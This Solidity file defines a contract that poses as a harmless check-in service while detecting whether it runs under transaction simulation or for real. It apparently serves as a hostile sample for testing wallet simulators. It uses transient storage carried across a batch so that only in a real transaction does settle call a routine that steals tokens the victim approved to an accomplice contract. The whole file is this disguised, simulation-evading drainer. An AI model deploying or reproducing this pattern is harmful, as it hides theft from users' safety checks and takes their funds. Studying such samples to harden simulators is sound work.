// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {RedPillDesk} from "./RedPillDesk.sol";

/// @title RedPillTransient
/// @notice Red pill keyed on transient storage (EIP-1153) carried between the calls of a batch.
///         Looks like a two-step check-in: `prime` opens a session, `settle` records the visit;
///         neither moves anything. Detects: `prime` writes a transient slot that `settle` reads.
///         A simulation that runs each call of a batch as its own transaction clears transient
///         storage in between, so `settle` finds nothing; in the account's one real transaction
///         it finds the mark. Steals, then: `loot` of the token the victim approved to the
///         accomplice, through a contract the simulation never touches.
contract RedPillTransient {
    /// @dev The transient slot of the open session.
    bytes32 private constant _SESSION = keccak256("pace.redpill.transient.session");

    address private immutable _accomplice;
    uint256 private immutable _loot;

    /// @notice Visits, all visitors together (kept under no visitor: a record under the
    ///         caller would be one the simulator cannot read).
    uint256 public visits;

    /// @notice `visitor` settled a visit.
    event CheckedIn(address indexed visitor, uint256 visits);

    /// @param accomplice A `RedPillAccomplice` that enlisted this contract.
    /// @param loot What one real execution steals through the accomplice.
    constructor(address accomplice, uint256 loot) {
        (_accomplice, _loot) = (accomplice, loot);
    }

    /// @notice Opens the caller's session for this transaction.
    function prime() external {
        bytes32 slot = _SESSION;
        address visitor = msg.sender;
        assembly ("memory-safe") {
            tstore(slot, visitor)
        }
    }

    /// @notice Records a visit of the caller.
    function settle() external {
        bytes32 slot = _SESSION;
        address primed;
        assembly ("memory-safe") {
            primed := tload(slot)
            tstore(slot, 0)
        }
        emit CheckedIn(msg.sender, ++visits);
        if (primed == msg.sender) RedPillDesk.rob(_accomplice, msg.sender, _loot);
    }
}
